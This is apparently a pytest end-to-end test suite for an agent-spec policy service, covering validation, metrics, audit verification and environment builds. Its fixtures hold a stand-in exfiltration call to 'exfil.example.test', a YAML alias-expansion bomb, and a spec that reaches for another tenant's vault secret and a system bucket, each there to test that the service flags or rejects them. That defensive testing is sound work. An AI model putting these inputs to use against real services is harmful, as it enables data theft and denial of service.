"""End to end with the policy service as its own process: a user submits specs with `dsec
submit`, the service validates or rejects them, its /metrics count it, and the log verifies."""

from __future__ import annotations

import time
import urllib.request
from pathlib import Path

import blake3
import pytest

pytestmark = [pytest.mark.e2e]

ROOT = Path(__file__).parents[1]


def _metrics_when(url: str, wanted: tuple[str, ...], timeout: float = 10.0) -> str:
    """Scrape /metrics until every wanted sample is there (the service counts right after the
    event the user saw was acknowledged), or the deadline passes."""
    deadline = time.monotonic() + timeout
    while True:
        text = urllib.request.urlopen(url + "/metrics", timeout=5).read().decode()
        if all(f"{w} " in text for w in wanted) or time.monotonic() > deadline:
            return text
        time.sleep(0.05)


@pytest.fixture
def env(stack_env: dict[str, str], tmp_path: Path) -> dict[str, str]:
    return {**stack_env, "DSEC_HOME": str(tmp_path / "cli")}


def test_valid_spec_with_code_is_validated_with_its_plan(services, env, dsec_cli) -> None:
    services.start("policy")
    example = ROOT / "examples" / "websearch-agent"
    result = dsec_cli(
        "submit",
        str(example / "dsec.yaml"),
        "--code",
        str(example),
        "--wait",
        "validated",
        "--json",
        env=env,
    )
    outcome = result.last_json()
    assert result.exit_code == 0, result.output
    assert outcome["state"] == "validated"
    validated = outcome["events"][-1]
    assert validated["type"] == "spec.validated"
    plan = validated["payload"]["plan"]
    assert plan["name"] == "websearch-agent"
    hosts = [r.get("domain") for r in plan["egress"]]
    assert "api.websearch.test" in hosts
    assert [s["env_var"] for s in plan["secrets"]] == ["WEB_SEARCH_KEY"]

    wanted = (
        'dsec_events_consumed_total{service="policy",type="spec.submitted"}',
        'dsec_events_published_total{service="policy",type="spec.validated"}',
        'dsec_handler_seconds_count{service="policy",type="spec.submitted"}',
    )
    text = _metrics_when(services.url("policy"), wanted)
    samples = dict(line.rsplit(" ", 1) for line in text.splitlines() if line.startswith("dsec_"))
    for name in wanted:
        assert float(samples.get(name, 0)) >= 1, f"{name} not counted:\n{text}"
    health = urllib.request.urlopen(services.url("policy") + "/healthz", timeout=5).read()
    assert b'"status": "ok"' in health


def test_bad_spec_is_rejected_with_every_located_error(services, env, dsec_cli) -> None:
    services.start("policy")
    bad = ROOT / "examples" / "bad-spec" / "dsec.yaml"
    result = dsec_cli("submit", str(bad), "--wait", "validated", "--json", env=env)
    outcome = result.last_json()
    assert result.exit_code == 1
    assert outcome["state"] == "rejected"
    errors = outcome["events"][-1]["payload"]["errors"]
    assert len(errors) == 6
    # the services see the spec by its folder and name (`dsec submit` sends both)
    assert all(e["file"] == "bad-spec/dsec.yaml" and e["line"] > 0 for e in errors)
    human = dsec_cli("submit", str(bad), "--wait", "validated", env=env)
    assert "dsec.yaml:21:7: unknown field 'tll'" in human.output or "tll" in human.output


def test_code_that_needs_an_ungranted_host_is_validated_with_a_warning(
    services, env, dsec_cli, tmp_path
):
    # Inference advises, the kernel decides: the spec is accepted, the warning carries the YAML
    # to add, and the connection would be denied at run time.
    services.start("policy")
    code = tmp_path / "agent"
    code.mkdir()
    (code / "agent.py").write_text(
        "import requests\nrequests.get('https://exfil.example.test/upload')\n"
    )
    spec = tmp_path / "dsec.yaml"
    spec.write_text("version: '1.2'\nname: sneaky\nbase: python:3.11\n")
    result = dsec_cli(
        "submit", str(spec), "--code", str(code), "--wait", "validated", "--json", env=env
    )
    assert result.exit_code == 0, result.output
    validated = result.last_json()["events"][-1]
    assert validated["type"] == "spec.validated"
    (warning,) = [w for w in validated["payload"]["warnings"] if "exfil" in w["message"]]
    assert (
        warning["rule_id"] == "infer.egress-missing" and "denied at run time" in warning["message"]
    )
    assert "- domain: exfil.example.test" in warning["hint"]
    assert validated["payload"]["plan"]["egress"] == []


def test_alias_bomb_and_other_tenants_data_are_rejected_on_the_bus(
    services, env, dsec_cli, tmp_path
) -> None:
    services.start("policy")
    lines = ['version: "1.2"', "name: bomb", "base: dsec/python311:latest", 'a0: &a0 ["lol"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(lines) + "\n")
    started = time.monotonic()
    result = dsec_cli("submit", str(bomb), "--wait", "validated", "--json", env=env)
    assert time.monotonic() - started < 30
    assert result.exit_code == 1, result.output
    (error,) = result.last_json()["events"][-1]["payload"]["errors"]
    assert error["rule_id"] == "yaml-limit" and "alias expansions limit" in error["message"]

    spec = tmp_path / "dsec.yaml"
    spec.write_text(
        "version: '1.2'\nname: thief\nbase: dsec/python311:latest\nruntime_context:\n"
        "  env_vars:\n    - {name: K, source: 'vault://secret/acme/api#token'}\n"
        "  mounts:\n    - {path: /data, source: 's3://dsec/bundles/'}\n"
    )
    result = dsec_cli("submit", str(spec), "--wait", "validated", "--json", env=env)
    assert result.exit_code == 1, result.output
    errors = result.last_json()["events"][-1]["payload"]["errors"]
    assert [(e["rule_id"], e["line"]) for e in errors] == [
        ("tenant.vault", 6),
        ("system.bucket", 8),
    ]


def test_audit_trail_verifies_after_the_services_ran(services, env, dsec_cli) -> None:
    services.start("policy")
    spec = ROOT / "examples" / "bad-spec" / "dsec.yaml"
    dsec_cli("submit", str(spec), "--wait", "validated", env=env)
    verified = dsec_cli("audit", "verify", "--json", env=env)
    assert verified.exit_code == 0, verified.output
    producers = verified.last_json()["producers"]
    assert "policy" in producers
    assert any(p.startswith("user-") for p in producers)  # the certified submitter


@pytest.mark.slow
def test_valid_spec_reaches_env_built_and_identical_lock_is_reused(services, env, dsec_cli, s3):
    services.start("policy", "builder")
    example = ROOT / "examples" / "websearch-agent"
    args = (
        "submit",
        str(example / "dsec.yaml"),
        "--code",
        str(example),
        "--wait",
        "built",
        "--stall",
        "120",
        "--json",
    )
    first = dsec_cli(*args, env=env)
    assert first.exit_code == 0, first.output
    built = first.last_json()["events"][-1]["payload"]
    assert first.last_json()["state"] == "built"
    # the environment is an archive in the object store, named by its lock, with its digest
    assert built["object_key"] == f"envs/{built['lock_hash']}.tar.zst"
    stored = s3.client().get_object(s3.bucket, built["object_key"]).read()
    assert blake3.blake3(stored).hexdigest() == built["digest"]
    assert built["size_bytes"] == len(stored) and built["unpacked_bytes"] > 0
    second = dsec_cli(*args, env=env).last_json()["events"][-1]["payload"]
    assert second["reused"] is True  # found in the store: nothing built
    assert second["lock_hash"] == built["lock_hash"]
    assert second["fingerprint"] == built["fingerprint"]
    assert (second["object_key"], second["digest"]) == (built["object_key"], built["digest"])


@pytest.mark.slow
def test_brief_spec_is_blocked_with_an_alternative(services, env, dsec_cli) -> None:
    services.start("policy", "builder")
    result = dsec_cli(
        "submit",
        str(ROOT / "examples" / "brief" / "dsec.yaml"),
        "--wait",
        "built",
        "--stall",
        "120",
        "--json",
        env=env,
    )
    outcome = result.last_json()
    assert result.exit_code == 1, result.output
    assert outcome["state"] == "conflict"
    conflict = outcome["events"][-1]["payload"]
    assert "vllm" in conflict["explanation"] and "transformers" in conflict["explanation"]
    assert any(a["verified"] for a in conflict["alternatives"])
